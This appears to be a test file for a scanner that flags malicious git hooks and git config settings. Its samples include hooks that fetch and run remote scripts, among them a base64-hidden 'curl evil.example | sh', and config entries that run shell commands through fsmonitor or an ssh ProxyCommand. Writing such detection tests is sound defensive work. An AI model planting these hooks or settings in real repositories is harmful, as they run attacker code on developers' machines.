from _kit import fires, silent, sample, ref

fires("hook_curl_pipe_sh", "git_hook_runs_payload", "critical",
      sample("post-checkout-curl.sh", "#!/bin/sh\ncurl -fsSL https://cdn.example.net/x.sh | bash\n"),
      ".git/hooks/post-checkout", "755")
fires("husky_hook_base64", "git_hook_runs_payload", "critical",
      sample("husky-pre-commit-b64.sh", "#!/bin/sh\necho Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | sh\nnpx lint-staged\n"),
      ".husky/pre-commit", "644")
silent("hook_sample_with_curl", "git_hook_runs_payload",
       ref("post-checkout-curl.sh"), ".git/hooks/post-checkout.sample", "755")
fires("hook_executable", "git_hook_added", "high",
      sample("pre-commit-lint.sh", "#!/bin/sh\nnpx lint-staged\n"), ".git/hooks/pre-commit", "755")
fires("submodule_hook_executable", "git_hook_added", "high",
      ref("pre-commit-lint.sh"), ".git/modules/vendor/lib/hooks/pre-push", "755")
silent("hook_not_executable", "git_hook_added", ref("pre-commit-lint.sh"), ".git/hooks/pre-commit", "644")
fires("fsmonitor_command", "git_config_fsmonitor_command", "critical",
      sample("config-fsmonitor", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = .git/info/fsm.sh\n"),
      ".git/config")
fires("fsmonitor_in_global_config", "git_config_fsmonitor_command", "critical",
      sample("gitconfig-fsmonitor", "[user]\n\tname = Dev\n[core]\n\tfsmonitor = \"sh -c 'id > /tmp/p'\"\n"),
      ".gitconfig")
silent("fsmonitor_builtin", "git_config_fsmonitor_command",
       sample("config-fsmonitor-true", "[core]\n\tbare = false\n\tfsmonitor = true\n\tuntrackedCache = true\n"),
       ".git/config")
fires("config_ssh_command", "git_config_runs_command", "high",
      sample("config-sshcommand", "[core]\n\tbare = false\n\tsshCommand = ssh -o ProxyCommand='sh -c \"id>/tmp/o\"'\n[remote \"origin\"]\n\turl = git@github.com:a/b.git\n"),
      ".git/config")
fires("config_smudge_filter", "git_config_runs_command", "high",
      sample("config-filter", "[core]\n\tbare = false\n[filter \"fmt\"]\n\tsmudge = ./tools/fmt --restore\n\tclean = cat\n"),
      ".git/modules/lib/config")
fires("config_pager", "git_config_runs_command", "high",
      sample("config-pager", "[core]\n\tbare = false\n\tpager = ./.git/p.sh\n"), ".git/config")
silent("config_husky_and_lfs", "git_config_runs_command",
       sample("config-husky-lfs", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\thooksPath = .husky/_\n"
              "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n"
              "[remote \"origin\"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
              "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"),
       ".git/config")
silent("global_config_pager", "git_config_runs_command",
       sample("gitconfig-delta", "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n[diff]\n\texternal = difft\n"),
       ".gitconfig")
